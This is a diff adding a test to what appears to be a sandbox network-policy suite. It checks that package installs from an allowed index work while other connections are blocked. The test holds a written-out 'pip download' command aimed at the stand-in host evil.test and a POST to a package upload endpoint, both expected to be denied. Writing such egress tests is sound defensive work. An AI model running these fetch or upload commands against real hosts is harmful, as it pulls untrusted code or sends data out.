@@ -172,3 +172,20 @@ async def test_two_runs_cannot_use_each_others_way(bench: Bench) -> None:
         ]
         await asyncio.gather(*(bench.tickover.run(RunRequest(folder=str(folder))) for folder in folders))
         assert (len(one.seen), len(other.seen)) == (1, 1)
+
+
+async def test_a_setup_script_installs_from_the_machines_own_index(bench: Bench) -> None:
+    setup = {"run": "pip install --quiet six && python3 -c 'import six'"}
+    routine = bench.routine(
+        "python3 -c 'import six; print(\"has\", six.__name__)'\n! pip download --quiet --dest /tmp six --index-url https://evil.test/simple\ncurl -sS -o /dev/null -w '%{http_code}' -X POST \"$(pip config debug >/dev/null; echo https://$(python3 -c 'from pip._internal.models.index import PyPI; print(PyPI.netloc)'))/legacy/\"",
+        environment={"network": ["packages"], "setup": setup},
+    )
+    row = await bench.run(routine)
+    if row.cause is not None and row.cause.cause == "setup_failed":
+        pytest.fail(
+            bench.facts("finding")[0]["message"]
+            + bench.tickover.blob(bench.facts("finding")[0]["detail"]["log_blob"]).decode()
+        )
+    assert "has six" in bench.said()
+    assert "403" in bench.said()
+    assert {fact["code"] for fact in bench.facts("connection_denied") if fact["identity"] == "agent"} >= {"no_rule"}
